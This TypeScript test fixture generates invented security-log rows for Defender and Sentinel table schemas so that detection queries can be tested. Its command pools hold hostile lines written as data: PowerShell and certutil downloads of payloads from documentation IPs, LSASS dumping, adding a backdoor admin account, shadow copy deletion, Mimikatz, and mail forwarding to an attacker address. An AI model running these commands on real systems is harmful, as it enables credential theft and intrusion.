/**
 * Realistic cell values by column name, for catalog-rows.ts: row i of each pool belongs with row i of the
 * others (a process name, its command line, its folder, its hash), so filters that test several columns of
 * one event still match. Invented values only (documentation IP ranges, contoso.com names).
 */
import type { Value } from '../../src/engine/values/value.js';

const FILES = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'AnyDesk.exe', 'svchost.exe', 'lsass.exe', 'w3wp.exe', 'regsvr32.exe', 'mshta.exe', 'certutil.exe', 'wmic.exe', 'explorer.exe'];
const COMMANDS = [
  'powershell.exe -NoProfile -ExecutionPolicy Bypass -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA= Invoke-WebRequest http://198.51.100.7/a.ps1',
  'cmd.exe /c whoami /all & net user admin P@ssw0rd /add & net localgroup administrators admin /add',
  'rundll32.exe C:\\Windows\\Temp\\update.dll,DllRegisterServer comsvcs.dll MiniDump 624 C:\\Temp\\lsass.dmp full',
  '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --start-with-win --silent',
  'svchost.exe -k netsvcs -p -s Schedule',
  'C:\\Windows\\system32\\lsass.exe',
  'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" cmd.exe /c echo',
  'regsvr32.exe /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll',
  'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop"":close")',
  'certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\payload.exe',
  'wmic.exe /node:10.0.0.5 process call create "cmd.exe /c vssadmin delete shadows /all /quiet"',
  'C:\\Windows\\explorer.exe',
];
const FOLDERS = [
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\rundll32.exe',
  'C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\lsass.exe',
  'C:\\Windows\\System32\\inetsrv\\w3wp.exe', 'C:\\Users\\alice\\AppData\\Local\\Temp\\regsvr32.exe', 'C:\\Windows\\System32\\mshta.exe',
  'C:\\Users\\Public\\Downloads\\certutil.exe', 'C:\\Windows\\System32\\wbem\\wmic.exe', 'C:\\Windows\\explorer.exe',
];
const PARENTS = ['explorer.exe', 'cmd.exe', 'powershell.exe', 'services.exe', 'winword.exe', 'w3wp.exe', 'excel.exe', 'wmiprvse.exe', 'outlook.exe', 'svchost.exe', 'mshta.exe', 'userinit.exe'];
const URLS = ['boot.net.anydesk.com', 'pastebin.com', 'raw.githubusercontent.com', 'login.microsoftonline.com', 'evil-download.example.com', 'ngrok.io', 'transfer.sh', 'api.telegram.org', 'discord.com', 'github.com', 'www.google.com', 'dropbox.com'];
const IPS = ['198.51.100.7', '10.0.0.5', '203.0.113.9', '192.168.1.20', '8.8.8.8', '172.16.4.2', '40.126.32.134', '127.0.0.1', '185.220.101.4', '2001:db8::1', '13.107.42.14', '45.33.32.156'];
const ACCOUNTS = ['alice', 'bob', 'admin', 'svc_backup', 'system', 'carol', 'dave', 'administrator', 'local service', 'erin', 'frank', 'krbtgt'];
const DEVICES = ['ws01.contoso.com', 'srv-dc01.contoso.com', 'ws02.contoso.com', 'srv-web01.contoso.com', 'laptop-alice', 'srv-sql01.contoso.com'];
const COUNTRIES = ['US', 'RU', 'NL', 'GB', 'CN', 'DE'];
const REG_KEYS = [
  'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\EvilSvc',
  'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce', 'HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa',
  'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender',
];
const APPS = ['Microsoft Exchange Online', 'Office 365', 'Microsoft Teams', 'Microsoft SharePoint Online', 'Azure Portal', 'Microsoft OneDrive for Business'];
const EMAILS = ['alice@contoso.com', 'bob@contoso.com', 'attacker@evil.example.com', 'admin@contoso.onmicrosoft.com', 'noreply@microsoft.com', 'carol@fabrikam.com'];
const OPERATIONS = ['New-InboxRule', 'Set-Mailbox', 'MailItemsAccessed', 'Add member to role.', 'Consent to application.', 'FileDownloaded', 'Update user.', 'Add service principal credentials.'];

const BY_TABLE: Record<string, string[]> = {
  DeviceProcessEvents: ['ProcessCreated'],
  DeviceNetworkEvents: ['ConnectionSuccess', 'InboundConnectionAccepted', 'ConnectionFailed', 'ConnectionRequest', 'ListeningConnectionCreated', 'NetworkSignatureInspected'],
  DeviceFileEvents: ['FileCreated', 'FileModified', 'FileRenamed', 'FileDeleted'],
  DeviceRegistryEvents: ['RegistryValueSet', 'RegistryKeyCreated', 'RegistryValueDeleted', 'RegistryKeyDeleted'],
  DeviceLogonEvents: ['LogonSuccess', 'LogonFailed', 'LogonAttempted'],
  DeviceImageLoadEvents: ['ImageLoaded'],
  DeviceEvents: ['PowerShellCommand', 'AntivirusDetection', 'NamedPipeEvent', 'ProcessCreatedUsingWmiQuery', 'DnsQueryResponse', 'ScheduledTaskCreated', 'ServiceInstalled', 'LdapSearch', 'UserAccountCreated', 'AsrLsassCredentialTheftBlocked', 'CreateRemoteThreadApiCall', 'OpenProcessApiCall'],
  IdentityLogonEvents: ['LogonSuccess', 'LogonFailed'],
  IdentityDirectoryEvents: ['Account Password changed', 'Group Membership changed', 'Account disabled', 'Directory Services replication'],
  IdentityQueryEvents: ['LDAP query', 'DNS query', 'SAMR query', 'SMB session'],
  CloudAppEvents: OPERATIONS,
  EmailPostDeliveryEvents: ['Phish ZAP', 'Malware ZAP', 'Manual Remediation'],
};

/** The ActionType values rows of a table take. */
export function actionTypes(table: string): string[] {
  return BY_TABLE[table] ?? ['ProcessCreated', 'ConnectionSuccess', 'FileCreated', 'LogonSuccess', 'RegistryValueSet', 'PowerShellCommand'];
}

function hex(seed: number, len: number): string {
  let s = '';
  let x = seed * 2654435761 >>> 0;
  while (s.length < len) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    s += x.toString(16).padStart(8, '0');
  }
  return s.slice(0, len);
}

/** A string column's value at row i, by the column's name. */
export function stringValue(table: string, column: string, i: number): string {
  const c = column.toLowerCase();
  if (c.endsWith('commandline')) return pick(c.startsWith('initiatingprocessparent') ? PARENTS : COMMANDS, i);
  if (c === 'initiatingprocessparentfilename' || c === 'parentprocessname') return pick(PARENTS, i);
  if (c.endsWith('filename') || c === 'processname' || c === 'imagename' || c === 'newprocessname' || c === 'process') return pick(FILES, i);
  if (c.endsWith('folderpath') || c.endsWith('path')) return pick(FOLDERS, i);
  if (c === 'sha256' || c.endsWith('sha256')) return hex(i + 1, 64);
  if (c === 'sha1' || c.endsWith('sha1')) return hex(i + 101, 40);
  if (c === 'md5' || c.endsWith('md5')) return hex(i + 201, 32);
  if (c.endsWith('url') || c.endsWith('urldomain') || c === 'domain' || c.endsWith('domainname') && !c.includes('account')) return c.endsWith('url') && c !== 'remoteurl' ? `https://${pick(URLS, i)}/path/file${i}.zip` : pick(URLS, i);
  if (c.endsWith('ip') || c.endsWith('ipaddress') || c.endsWith('ipv4') || c === 'clientip' || c === 'callerip' || c.endsWith('sourceaddress') || c.endsWith('destinationaddress')) return pick(IPS, i);
  if (c.endsWith('port')) return String(pick([443, 3389, 445, 80, 4444, 5985], i));
  if (c.endsWith('upn') || c.endsWith('emailaddress') || c.endsWith('userprincipalname') || c.endsWith('fromaddress') || c === 'userid' || c === 'recipientaddress' || c === 'senderaddress') return pick(EMAILS, i);
  if (c.endsWith('sid')) return `S-1-5-21-1004336348-1177238915-682003330-${pick([500, 1104, 1105, 18, 512, 1106], i)}`;
  if (c.endsWith('accountname') || c === 'account' || c === 'targetusername' || c === 'subjectusername' || c === 'username' || c === 'user' || c === 'caller') return pick(ACCOUNTS, i);
  if (c.endsWith('accountdomain') || c.endsWith('domain')) return pick(['contoso', 'CONTOSO', 'NT AUTHORITY', 'fabrikam'], i);
  if (c.endsWith('devicename') || c === 'computer' || c === 'hostname' || c === 'workstationname') return pick(DEVICES, i);
  if (c.endsWith('deviceid') || c.endsWith('objectid') || c === 'reportid' || c.endsWith('tenantid') || c.endsWith('applicationid') || c.endsWith('appid')) return guid(column, i % 6);
  if (c === 'registrykey' || c === 'previousregistrykey') return pick(REG_KEYS, i);
  if (c === 'registryvaluename') return pick(['Updater', 'ImagePath', 'Debugger', 'DisableAntiSpyware', 'RunAsPPL', 'Start'], i);
  if (c === 'registryvaluedata') return pick(['C:\\Users\\Public\\payload.exe', '%SystemRoot%\\system32\\svchost.exe', 'cmd.exe', '1', '0', 'powershell -enc SQBFAFgA'], i);
  if (c === 'logontype') return pick(['Network', 'RemoteInteractive', 'Interactive', 'Batch', 'Service', 'Unlock'], i);
  if (c === 'protocol') return pick(['Tcp', 'Udp', 'Http', 'Kerberos', 'Ntlm', 'Ldap'], i);
  if (c === 'osplatform') return pick(['Windows10', 'Windows11', 'WindowsServer2019', 'Linux', 'macOS', 'WindowsServer2022'], i);
  if (c.includes('country')) return pick(COUNTRIES, i);
  if (c === 'application' || c === 'appdisplayname' || c.endsWith('appname')) return pick(APPS, i);
  if (c === 'operation' || c === 'operationname' || c === 'activitydisplayname' || c === 'eventname') return pick(OPERATIONS, i);
  if (c.endsWith('subject') || c === 'title') return pick(['Invoice overdue', 'Password expiry notice', 'Weekly report', 'Urgent wire transfer', 'Meeting', 'Your account is locked'], i);
  if (c === 'severity' || c.endsWith('severitylevel') || c.endsWith('risklevel')) return pick(['High', 'Medium', 'Low', 'Informational'], i);
  if (c === 'useragent' || c.endsWith('useragent')) return pick(['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', 'python-requests/2.31.0', 'curl/8.4.0', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Safari/605.1.15'], i);
  if (isJsonColumn(column)) return JSON.stringify(dynamicValue(table, column, i));
  // Windows event XML, as Sentinel's Event and SecurityEvent tables hold it
  if (c === 'eventdata') return `<DataItem type="System.XmlData" time="2026-06-01T10:00:00.0000000Z" sourceHealthServiceId="${guid('hs', 0)}"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data Name="SubjectUserName">${pick(ACCOUNTS, i)}</Data><Data Name="TargetUserName">${pick(ACCOUNTS, i + 1)}</Data><Data Name="IpAddress">${pick(IPS, i)}</Data><Data Name="CommandLine">${pick(COMMANDS, i).replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')}</Data></EventData></DataItem>`;
  if (c === 'resulttype' || c === 'resultcode' || c === 'errorcode' || c === 'status' || c === 'eventid') return pick(['0', '50126', '0', '50074', 'Success', 'Failure'], i);
  if (c === 'type') return table;
  if (c === 'sourcesystem') return pick(['OpsManager', 'Azure', 'Microsoft'], i);
  if (c.endsWith('location')) return pick(['US', 'Inbox', 'JunkFolder', 'NL'], i);
  if (c === 'category' || c.endsWith('categories')) return pick(['Execution', 'Persistence', 'CredentialAccess', 'LateralMovement', 'CommandAndControl', 'Exfiltration'], i);
  if (c === 'message' || c === 'description' || c === 'activity') return `${pick(OPERATIONS, i)} by ${pick(ACCOUNTS, i)} on ${pick(DEVICES, i)} from ${pick(IPS, i)}`;
  return `${column}-${i % 4}`;
}

/** String columns that hold JSON text in the real tables. */
export function isJsonColumn(column: string): boolean {
  const c = column.toLowerCase();
  return c.endsWith('additionalfields') || c.endsWith('json') || c === 'rawdata' || c === 'authenticationdetails';
}

/** A dynamic column's value (and the JSON of string columns named like AdditionalFields) at row i. */
export function dynamicValue(table: string, column: string, i: number): Value {
  const c = column.toLowerCase();
  if (c === 'additionalfields') return pick(ADDITIONAL, i);
  if (c === 'authenticationdetails') return { SPF: pick(['fail', 'pass', 'none'], i), DKIM: pick(['pass', 'fail', 'none'], i), DMARC: pick(['fail', 'pass', 'bestguesspass'], i), CompAuth: pick(['fail', 'pass', 'softpass'], i) };
  if (c === 'rawdata' || c === 'raweventdata' || c === 'auditdata') return { Operation: pick(OPERATIONS, i), UserId: pick(EMAILS, i), ClientIP: pick(IPS, i), ResultStatus: 'Succeeded', Parameters: [{ Name: 'ForwardTo', Value: 'attacker@evil.example.com' }, { Name: 'Identity', Value: pick(ACCOUNTS, i) }], ObjectId: pick(FOLDERS, i) };
  if (c === 'locationdetails' || c === 'location') return { city: pick(['Seattle', 'Moscow', 'Amsterdam'], i), state: 'WA', countryOrRegion: pick(COUNTRIES, i), geoCoordinates: { latitude: 47.6, longitude: -122.3 } };
  if (c === 'devicedetail') return { deviceId: guid('device', i % 4), displayName: pick(DEVICES, i), operatingSystem: pick(['Windows 10', 'Ios', 'Android', 'MacOs'], i), browser: 'Edge 120.0', isCompliant: i % 2 === 0, isManaged: i % 3 === 0, trustType: 'Azure AD joined' };
  if (c === 'status') return { errorCode: pick([0, 50126, 50074, 0], i), failureReason: pick(['Other.', 'Invalid username or password.', 'Strong authentication is required.'], i), additionalDetails: 'MFA requirement satisfied by claim in the token' };
  if (c === 'targetresources') return [{ id: guid('target', i), displayName: pick(ACCOUNTS, i), type: 'User', userPrincipalName: pick(EMAILS, i), modifiedProperties: [{ displayName: pick(['Role.DisplayName', 'StrongAuthenticationMethod', 'AppAddress', 'Included Updated Properties'], i), oldValue: '[]', newValue: '["Global Administrator"]' }] }];
  if (c === 'initiatedby') return { user: { id: guid('init', i), userPrincipalName: pick(EMAILS, i), ipAddress: pick(IPS, i), displayName: pick(ACCOUNTS, i) }, app: { displayName: pick(APPS, i), servicePrincipalId: guid('sp', i) } };
  if (c === 'additionaldetails' || c === 'properties' || c.endsWith('properties')) return [{ key: 'User-Agent', value: 'python-requests/2.31.0' }, { key: 'ipaddr', value: pick(IPS, i) }];
  if (c.endsWith('ips') || c.endsWith('addresses')) return [pick(IPS, i), pick(IPS, i + 1)];
  if (c === 'tags' || c.endsWith('tags') || c.endsWith('roles') || c.endsWith('categories') || c.endsWith('membership')) return [pick(['Critical', 'Domain Admins', 'Global Administrator', 'Tier0'], i), 'Users'];
  if (c === 'parameters') return [{ Name: 'ForwardTo', Value: 'attacker@evil.example.com' }, { Name: 'DeleteMessage', Value: 'True' }];
  if (c.endsWith('details') || c.endsWith('info')) return { Name: pick(ACCOUNTS, i), Value: pick(URLS, i), Count: i + 1, Items: [pick(FILES, i), pick(IPS, i)] };
  return { [column]: i, Name: pick(FILES, i), Url: pick(URLS, i), Items: [i, i + 1] };
}

const ADDITIONAL: Value[] = [
  { Command: 'Invoke-Mimikatz -DumpCreds', ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a.ps1")' },
  { PipeName: '\\Device\\NamedPipe\\msagent_12', FileOperation: 'File created', NamedPipeEnd: 'Server', RemoteClientsAccess: 'AcceptRemote' },
  { ThreatName: 'Trojan:Win32/Meterpreter.A', WasRemediated: true, ReportSource: 'Realtime', Action: 'quarantine' },
  { TaskName: '\\Microsoft\\Windows\\Updater', TaskContent: '<Exec><Command>C:\\Users\\Public\\payload.exe</Command></Exec>', SubjectUserName: 'alice' },
  { ServiceName: 'EvilSvc', ServiceStartType: 2, ServiceType: 16, ServiceAccount: 'LocalSystem' },
  { AttributeList: '["objectSid","servicePrincipalName"]', SearchFilter: '(&(objectCategory=person)(servicePrincipalName=*))', DistinguishedName: 'DC=contoso,DC=com', ScopeOfSearch: 'SubTree' },
  { DnsQueryString: 'evil-download.example.com', DnsQueryResponse: '198.51.100.7', QueryType: 1 },
  { 'TO.GROUP': 'Domain Admins', 'FROM.GROUP': '', 'TARGET_OBJECT.USER': 'bob', ACTOR: { ACCOUNT: 'alice' }, Count: 3 },
  { IsAudit: false, Uri: 'https://pastebin.com/raw/abc', direction: 'In', Experience: 'CustomPolicy', IsLocalLogon: true },
  { Spec: { Name: 'Updater', Trigger: 'Logon' }, Destination: 'C:\\Windows\\Temp', DestinationAddress: '203.0.113.9', Resource: 'File', DestinationPort: 4444 },
  { MemberName: 'admin', MemberSid: 'S-1-5-21-1-2-3-500', GroupName: 'Administrators', GroupDomainName: 'BUILTIN' },
  { Signer: 'AnyDesk Software GmbH', FileOrigin: 'https://boot.net.anydesk.com', ZoneId: 3, HostUrl: 'https://transfer.sh/x.exe' },
];

export function guid(seed: string, i: number): string {
  let h = 2166136261;
  for (const ch of seed) h = Math.imul(h ^ ch.charCodeAt(0), 16777619) >>> 0;
  const hex = ((h ^ i * 2654435761) >>> 0).toString(16).padStart(8, '0');
  return `${hex}-${(1000 + i).toString(16).padStart(4, '0')}-4abc-8def-${(i * 7919).toString(16).padStart(12, '0')}`;
}

export function pick<T>(pool: readonly T[], i: number): T {
  return pool[i % pool.length]!;
}
